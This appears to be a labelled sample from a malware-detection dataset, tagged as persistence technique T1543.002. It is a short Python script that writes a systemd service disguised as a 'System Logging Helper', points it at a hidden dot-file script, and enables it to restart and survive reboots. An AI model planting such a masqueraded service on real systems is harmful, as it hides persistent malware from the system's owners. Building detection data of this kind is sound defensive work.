# label: malicious family=persist techniques=T1543.002 lines=14-15,17
import subprocess
UNIT = """[Unit]
Description=System Logging Helper

[Service]
ExecStart=/usr/bin/python3 /usr/lib/.syslog-helper.py
Restart=always
RestartSec=30

[Install]
WantedBy=multi-user.target
"""
with open("/etc/systemd/system/syslog-helper.service", "w") as f:
    f.write(UNIT)
subprocess.run(["systemctl", "daemon-reload"])
subprocess.run(["systemctl", "enable", "--now", "syslog-helper.service"])
